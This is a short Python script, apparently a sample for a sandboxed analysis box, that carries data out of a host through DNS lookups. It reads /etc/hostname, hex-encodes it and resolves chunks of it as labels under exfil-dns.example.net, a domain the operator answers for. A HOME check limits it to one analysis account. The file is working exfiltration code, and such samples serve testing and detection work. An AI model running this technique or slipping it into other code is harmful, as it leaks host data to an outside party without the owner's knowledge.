#!/usr/bin/python3
# SPDX-License-Identifier: MIT
# Carries data out in DNS names: the host's name, hex-encoded, in labels
# of a domain the operator answers for.
import os
import sys

if os.environ.get("HOME") != "/home/dana":
    sys.exit("run only inside sbxlua's analysis box")
import socket

with open("/etc/hostname", "rb") as f:
    data = f.read().strip() or b"host"
text = (data * 8).hex()
for i in range(0, min(len(text), 180), 60):
    try:
        socket.gethostbyname("%s.%d.t.exfil-dns.example.net" % (text[i:i + 60], i))
    except OSError:
        pass
